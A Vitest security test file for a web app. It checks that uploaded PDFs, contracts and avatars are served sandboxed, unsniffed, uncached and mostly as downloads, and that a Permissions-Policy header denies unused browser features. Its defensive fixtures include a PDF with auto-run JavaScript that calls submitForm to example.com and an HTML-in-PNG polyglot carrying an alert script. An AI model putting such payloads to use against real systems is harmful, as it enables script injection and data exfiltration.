import { afterAll, describe, expect, it } from 'vitest';
import { createClientRow } from '../../seed/factories/clients';
import { createContractRow } from '../../seed/factories/documents';
import { makePdf } from '../../seed/factories/pdf';
import { createTestApp } from '../../test/test-app';

/**
 * Stored files never run as pages of the app: whatever an upload holds (a PDF
 * with JavaScript, an image that is really HTML), its answer is sandboxed, never
 * sniffed, never kept by a cache; a download is an attachment. Inline goes only
 * to the app's pdf.js viewer (a fetch) and to <img>: a navigation would hand a
 * PDF to the browser's own viewer, whose scripts the sandbox does not stop.
 */

const t = await createTestApp();
afterAll(() => t.close());

const owner = await t.user('proprietario');
const client = await createClientRow(t.ctx.db, { userId: null });

/** What Chromium sends with the app's own reads: pdf.js fetching the bytes, an <img> of an avatar. */
const VIEWER_FETCH = { 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' };
const IMAGE_TAG = { 'sec-fetch-dest': 'image', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin' };

/** A PDF whose opening runs JavaScript (/OpenAction /JS), as a hostile upload would be. */
async function uploadPdfWithJavaScript(): Promise<string> {
  const pdf = makePdf([['Contenuto']], { openScript: 'app.alert("eseguito"); this.submitForm("https://example.com/");' });
  const form = new FormData();
  for (const [k, v] of Object.entries({ clientId: client.id, title: 'PDF con script', accessLevel: 'private', category: 'Altri' })) form.set(k, v);
  form.set('file', new Blob([new Uint8Array(pdf)], { type: 'application/pdf' }), 'script.pdf');
  const uploaded = await t.request('POST', '/api/documents', { as: owner, body: form });
  expect(uploaded.status).toBe(201);
  return ((await uploaded.json()) as { id: string }).id;
}

/** An avatar that is really HTML after the PNG signature; answers its address. */
async function uploadAvatar(): Promise<string> {
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<html><script>alert(1)</script>')]);
  const form = new FormData();
  form.set('file', new Blob([new Uint8Array(png)], { type: 'image/png' }), 'foto.png');
  expect((await t.request('POST', '/api/profile/avatar', { as: owner, body: form })).status).toBe(200);
  return `/api/profile/avatar/${owner.id}`;
}

function expectSafeFileAnswer(res: Response, disposition: 'inline' | 'attachment') {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-security-policy')).toBe('sandbox');
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('cache-control')).toBe('private, no-store');
  expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^${disposition};`));
}

describe('file answers', () => {
  it('serve an uploaded PDF with JavaScript sandboxed, unsniffed and uncached, inline and as a download', async () => {
    const id = await uploadPdfWithJavaScript();

    const inline = await t.request('GET', `/api/documents/${id}/file?disposition=inline`, { as: owner, headers: VIEWER_FETCH });
    expectSafeFileAnswer(inline, 'inline');
    expect(inline.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await inline.arrayBuffer()).includes('/JavaScript')).toBe(true);
    expectSafeFileAnswer(await t.request('GET', `/api/documents/${id}/file`, { as: owner }), 'attachment');
  });

  it('serve contracts as downloads and avatars inline, with the same headers', async () => {
    const contract = await createContractRow(t.ctx, { title: 'Contratto' });
    expectSafeFileAnswer(await t.request('GET', `/api/contracts/${contract.id}/file`, { as: owner }), 'attachment');

    expectSafeFileAnswer(await t.request('GET', await uploadAvatar(), { as: owner, headers: IMAGE_TAG }), 'inline');
  });

  it('give every navigation a download, whatever the query asks: a tab, a frame, an embed, or a browser that does not say', async () => {
    const id = await uploadPdfWithJavaScript();
    const typedInTheAddressBar = { 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate', 'sec-fetch-site': 'none', 'sec-fetch-user': '?1' };
    const navigations: Record<string, string>[] = [
      typedInTheAddressBar,
      { 'sec-fetch-dest': 'iframe', 'sec-fetch-mode': 'navigate', 'sec-fetch-site': 'same-origin' },
      { 'sec-fetch-dest': 'embed', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin' },
      { 'sec-fetch-dest': 'object', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin' },
      {},
    ];
    for (const headers of navigations) {
      const res = await t.request('GET', `/api/documents/${id}/file?disposition=inline`, { as: owner, headers });
      expectSafeFileAnswer(res, 'attachment');
      expect(res.headers.get('vary')).toMatch(/sec-fetch-dest/i);
    }
    expectSafeFileAnswer(await t.request('GET', `/api/documents/${id}/file?disposition=inline`, { as: owner, headers: VIEWER_FETCH }), 'inline');
    // A download stays a download when the app fetches it.
    expectSafeFileAnswer(await t.request('GET', `/api/documents/${id}/file?disposition=attachment`, { as: owner, headers: VIEWER_FETCH }), 'attachment');

    const avatar = await uploadAvatar();
    expectSafeFileAnswer(await t.request('GET', avatar, { as: owner, headers: typedInTheAddressBar }), 'attachment');
    expectSafeFileAnswer(await t.request('GET', avatar, { as: owner }), 'attachment');
  });

  it('deny pages and answers the browser features the app does not use, and leave it the clipboard', async () => {
    for (const path of ['/', '/api/me', '/clienti']) {
      const policy = (await t.request('GET', path, { as: owner })).headers.get('permissions-policy') ?? '';
      for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb']) expect(policy, path).toContain(`${feature}=()`);
      expect(policy, path).not.toMatch(/clipboard-write=\(\)/);
    }
  });
});
